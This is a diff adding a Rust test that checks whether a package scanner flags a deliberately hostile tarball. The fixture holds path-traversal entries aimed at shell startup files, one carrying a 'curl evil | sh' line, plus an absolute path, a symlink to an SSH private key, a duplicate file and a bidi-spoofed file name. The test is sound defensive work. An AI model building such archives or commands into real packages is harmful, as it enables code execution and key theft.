@@ -792,3 +792,70 @@ fn the_review_path_and_the_streaming_path_find_the_same_things() {
         "evaluate (review screen) and check (streaming) agree"
     );
 }
+
+#[test]
+fn a_hostile_tarball_gives_critical_archive_findings_and_exit_1() {
+    use common::{Tar, flag, gzip};
+    let dir = tempfile::tempdir().expect("tempdir");
+    let mut inner = Tar::new();
+    inner
+        .file("package/package.json", CLEAN_PKG)
+        .file("package/../../../etc/profile.d/x.sh", b"curl evil | sh\n");
+    let mut t = Tar::new();
+    t.file("package/package.json", CLEAN_PKG)
+        .file("package/../../.bashrc", b"evil\n")
+        .file("/etc/evil", b"root\n")
+        .link("package/key", flag::SYMLINK, "/home/u/.ssh/id_rsa")
+        .file("package/index.js", b"module.exports = 1;\n")
+        .file("package/index.js", b"module.exports = evil();\n")
+        .file("package/gnp\u{202e}sj.js", b"x\n")
+        .file("package/vendor/inner.tgz", &gzip(&inner.finish()));
+    let f = write(dir.path(), "hostile-1.0.0.tgz", &gzip(&t.finish()));
+    let (v, code) = json_of(dir.path(), &[f.to_str().expect("utf-8")]);
+    assert_eq!(code, 1, "a hostile archive fails the check: {v}");
+    let archive: Vec<&Value> = v["findings"]
+        .as_array()
+        .expect("findings")
+        .iter()
+        .filter(|f| {
+            f["rule"]
+                .as_str()
+                .is_some_and(|r| r.starts_with("archive-"))
+        })
+        .collect();
+    for rule in [
+        "archive-path-traversal",
+        "archive-absolute-path",
+        "archive-symlink",
+        "archive-duplicate-path",
+        "archive-bidi-characters",
+    ] {
+        assert!(
+            archive
+                .iter()
+                .any(|f| f["rule"] == rule && f["inner"].is_null()),
+            "{rule} at the top level: {archive:#?}"
+        );
+    }
+    assert!(
+        archive.iter().all(|f| f["severity"] == "critical"),
+        "every archive-* finding is critical: {archive:#?}"
+    );
+    let nested = archive
+        .iter()
+        .find(|f| f["path"] == "vendor/inner.tgz" && f["rule"] == "archive-path-traversal")
+        .unwrap_or_else(|| panic!("the nested archive's traversal: {archive:#?}"));
+    assert!(
+        nested["inner"]
+            .as_str()
+            .is_some_and(|i| i.contains("profile.d")),
+        "located inside the nested archive: {nested}"
+    );
+    assert!(
+        archive
+            .iter()
+            .filter_map(|f| f["message"].as_str())
+            .all(|m| !m.contains('\u{202e}')),
+        "the bidi character is escaped in messages"
+    );
+}
